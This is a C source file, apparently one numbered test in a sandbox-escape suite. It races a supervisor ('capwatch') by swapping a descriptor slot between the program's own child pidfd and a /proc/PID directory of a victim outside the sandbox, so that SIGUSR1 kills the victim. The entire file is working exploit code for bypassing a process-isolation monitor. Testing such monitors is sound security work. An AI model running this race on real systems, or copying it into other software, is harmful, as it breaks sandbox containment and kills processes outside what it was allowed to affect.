/* pidfd_send_signal(N, SIGUSR1) while a thread dup2()s onto N, in turn, a
 * pidfd of the program's own child (inside the tree: SIGUSR1 ignored) and
 * a /proc/VICTIM directory (outside: SIGUSR1 kills it). capwatch reads N's
 * fdinfo "Pid:" line, finds its own child and CONTINUEs; the kernel then
 * takes whatever N is, and accepts a /proc/PID directory as a pidfd.
 * usage: e122_pidfd_swap SECONDS VICTIM_PID
 * Prints "RACE attempts=N ok=N hits=N": hits = 1 when the victim is gone
 * (its /proc/PID/stat says Z or is absent) at the end. */
#include "esc.h"
#include <pthread.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#ifndef __NR_pidfd_open
#define __NR_pidfd_open 434
#endif
#ifndef __NR_pidfd_send_signal
#define __NR_pidfd_send_signal 424
#endif
#define SLOT 100

static int pfd, vfd;
static volatile int stop;

static void *flip(void *arg)
{
	(void)arg;
	while (!stop) {
		dup2(pfd, SLOT);
		dup2(vfd, SLOT);
	}
	return NULL;
}

static int victim_gone(const char *pid)
{
	char p[64], buf[256];
	snprintf(p, sizeof p, "/proc/%s/stat", pid);
	FILE *f = fopen(p, "r");
	if (!f)
		return errno == ENOENT || errno == ESRCH;
	size_t n = fread(buf, 1, sizeof buf - 1, f);
	fclose(f);
	buf[n] = 0;
	char *c = strrchr(buf, ')');
	return c && c[1] == ' ' && (c[2] == 'Z' || c[2] == 'X');
}

int main(int argc, char **argv)
{
	esc_usage(argc, 3, "e122_pidfd_swap SECONDS VICTIM_PID");
	double end = esc_now() + atof(argv[1]);
	pid_t child = fork();
	if (child == 0) {
		signal(SIGUSR1, SIG_IGN);
		for (;;)
			pause();
	}
	signal(SIGUSR1, SIG_IGN);
	usleep(100000);
	pfd = (int)syscall(__NR_pidfd_open, child, 0);
	if (pfd < 0) {
		printf("pidfd_open(child): %s\n", strerror(errno));
		kill(child, SIGKILL);
		return 1;
	}
	char p[64];
	snprintf(p, sizeof p, "/proc/%s", argv[2]);
	vfd = open(p, O_RDONLY | O_DIRECTORY);
	if (vfd < 0) {
		printf("open %s: %s\n", p, strerror(errno));
		kill(child, SIGKILL);
		return 1;
	}
	pthread_t th;
	pthread_create(&th, NULL, flip, NULL);
	long attempts = 0, ok = 0;
	int hits = 0;
	while (esc_now() < end) {
		attempts++;
		if (syscall(__NR_pidfd_send_signal, SLOT, SIGUSR1, NULL, 0) == 0)
			ok++;
		if ((attempts & 255) == 0 && victim_gone(argv[2])) {
			hits = 1;
			break;
		}
	}
	stop = 1;
	pthread_join(th, NULL);
	if (!hits)
		hits = victim_gone(argv[2]);
	syscall(__NR_pidfd_send_signal, pfd, SIGKILL, NULL, 0);
	waitpid(child, NULL, 0);
	printf("RACE attempts=%ld ok=%ld hits=%d\n", attempts, ok, hits);
	return 0;
}
